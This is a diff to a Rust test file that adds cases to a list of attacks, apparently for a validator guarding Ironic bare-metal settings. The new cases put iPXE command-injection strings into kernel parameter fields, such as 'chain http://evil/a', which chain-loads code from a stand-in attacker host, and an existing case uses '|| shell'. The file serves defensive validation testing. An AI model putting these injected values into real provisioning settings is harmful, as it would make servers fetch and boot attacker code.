@@ -76,6 +76,20 @@ pub(super) fn returning() -> Vec<Attack> {
             setting(json!({"instance_info": {"kernel_append_params": "a || shell"}})),
             "has text that iPXE would act on",
         ),
+        bad(
+            "ipxe-next-command",
+            setting(
+                json!({"driver_info": {"kernel_append_params": "quiet -- ; chain http://evil/a #"}}),
+            ),
+            "has text that iPXE would act on",
+        ),
+        bad(
+            "ipxe-ramdisk",
+            setting(
+                json!({"instance_info": {"ramdisk_kernel_arguments": "x || chain http://evil/a ${mac}"}}),
+            ),
+            "has text that iPXE would act on",
+        ),
         bad("large-body", large_body(), "Ironic takes 102400"),
         bad(
             "address",
